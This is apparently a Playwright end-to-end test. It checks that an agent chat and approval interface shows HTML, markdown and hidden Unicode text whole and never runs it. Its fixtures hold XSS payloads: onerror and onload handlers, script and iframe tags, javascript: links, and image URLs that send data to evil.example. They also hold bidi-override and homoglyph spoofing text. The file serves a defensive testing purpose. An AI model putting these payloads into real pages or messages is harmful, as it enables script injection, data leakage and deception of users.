import type { Locator, Page } from '@playwright/test';
import { ask, doing, replies } from './support/chat';
import { openItem, waiting } from './support/inbox';
import { email, lookUp } from './support/plans';
import { expect, test } from './support/scripted';

const html =
  '<img src="https://evil.example/p.png?d=secret" onerror="window.pwned=1"><script>window.pwned=1</script>' +
  '<iframe src="https://evil.example"></iframe><style>*{display:none}</style><svg onload="window.pwned=1">' +
  '<a href="javascript:window.pwned=1">x</a>';
const markdown =
  '![pixel](https://evil.example/p.png?d=secret) [run](javascript:window.pwned=1) [your bank](https://evil.example/?d=1)';
const hidden = 'pay \u202Etxt.exe\u202C ac\u200Bme \u{E0041}\u{E0042} p\u0430ypal';
const shown = 'pay ⟨U+202E⟩txt.exe⟨U+202C⟩ ac⟨U+200B⟩me ⟨U+E0041⟩⟨U+E0042⟩ p\u0430⟨U+0430⟩ypal';

/** Nothing of what was written has become a part of the page; links are those of replies, which say where they lead. */
async function expectInert(page: Page): Promise<void> {
  const found = await page.evaluate(() => {
    const parts =
      'img, iframe, object, embed, base, meta[http-equiv], form[action], [onerror], [onload], main style, main script';
    // A drawing's links have no address of their own, so it is read from the attribute.
    const links = [...document.querySelectorAll<HTMLAnchorElement>('a[href]')]
      .map((link) => ({ link, to: new URL(link.getAttribute('href') ?? '', location.href) }))
      .filter(({ to }) => to.origin !== location.origin);
    return {
      ran: 'pwned' in window,
      parts: [...document.querySelectorAll(parts)].map((part) => part.outerHTML),
      unsaid: links
        .filter(({ link, to }) => !link.textContent?.includes(`(${to.host})`) || !link.rel.includes('noreferrer'))
        .map(({ link }) => link.outerHTML),
      shown: getComputedStyle(document.body).display,
    };
  });
  expect(found).toEqual({ ran: false, parts: [], unsaid: [], shown: 'block' });
}

/** The text stands there whole, markup and marks included, and without one character that cannot be seen. */
async function expectWhole(place: Locator, ...texts: string[]): Promise<void> {
  for (const text of texts) await expect(place).toContainText(text);
  expect(await place.innerText()).not.toMatch(/[\u200B\u202A-\u202E\u2066-\u2069]|[\u{E0000}-\u{E007F}]/u);
}

test('markup and hidden characters of agents, users and tools are shown whole and do nothing', async ({
  desk,
  scripted,
}) => {
  const mia = await desk.open('mia');
  const words = `${html} ${markdown} ${hidden}`;
  const plan = scripted.plan(
    { text: words, toolUses: [lookUp(words), email('mia@example.com', `Re: ${hidden}`, words)] },
    { text: `Done: ${words}` },
  );
  await ask(mia, `${words} ${plan}`);
  const strip = doing(mia, 'Email mia@example.com');
  await expect(strip).toContainText('Waiting for approval');
  await expectWhole(strip, shown);
  await expectWhole(mia.getByRole('article', { name: /wrote/ }).first(), html, markdown, shown);
  await expectInert(mia);

  const ravi = await desk.open('ravi');
  await expectWhole(waiting(ravi, /^Email mia/), shown);
  const card = await openItem(ravi, /^Email mia/);
  await expectWhole(card, html, markdown, shown);
  const approve = card.getByRole('button', { name: /^Approve: / });
  expect(await approve.getAttribute('aria-label')).toContain(shown);
  await expectWhole(approve, shown);
  await expectInert(ravi);
  await card.getByRole('button', { name: 'Edit' }).click();
  await expectWhole(card.getByRole('form', { name: 'Edit' }), `In full: Re: ${shown}`);
  await card.getByRole('button', { name: 'Cancel edit' }).click();
  await approve.click();
  await card.getByRole('button', { name: /^Confirm: / }).click();
  await expect(card.getByText('It ran and succeeded.')).toBeVisible({ timeout: 20_000 });
  await expectInert(ravi);

  const reply = replies(mia).last();
  await expect(reply).toContainText('Done:');
  await expectWhole(reply, html, shown, '[Image blocked: pixel]', 'run [blocked]', 'your bank (evil.example)');
  await expectInert(mia);

  await ravi.goto(mia.url());
  await ravi.getByRole('link', { name: 'Record of this run' }).click();
  await expect(ravi.getByRole('heading', { name: 'Step 1' })).toBeVisible();
  await expectWhole(ravi.getByRole('main'), shown, html, markdown);
  await expectInert(ravi);
  await ravi.goto('/mail');
  await expect(ravi.getByText('Re: pay').first()).toBeVisible();
  await expectWhole(ravi.getByRole('main'), shown, html, markdown);
  await expectInert(ravi);
});
